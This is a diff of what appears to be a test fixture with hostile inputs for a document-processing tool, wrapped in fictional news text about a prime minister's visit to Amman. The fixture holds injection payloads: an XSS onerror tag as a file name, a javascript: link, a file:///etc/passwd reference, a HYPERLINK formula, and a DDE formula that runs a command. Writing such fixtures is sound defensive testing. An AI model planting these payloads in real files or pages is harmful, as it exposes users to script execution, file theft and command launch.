@@ -16,7 +16,7 @@ LINK = '[here](javascript:alert(1)) ![x](file:///etc/passwd) =HYPERLINK("http://
 HOSTILE = {
     "<img src=x onerror=alert(1)>.txt": (
         f"Solheim in Amman {SCRIPT}\n\nAMMAN, 3 March 2031 - Prime Minister Ingrid Solheim said: "
-        f'"We will not go {LINK} to war {SCRIPT}." Officials declined to say whether <b>gas</b> would be discussed.\n'
+        f'"We will not go {LINK} to war {SCRIPT}." Officials declined to say whether <b>gas</b> was discussed.\n'
     ),
     "=1+1.txt": (
         "=cmd|' /C calc'!A0\n\nOSLO, 3 March 2031 - Prime Minister Ingrid Solheim will meet King Faris in Amman.\n"
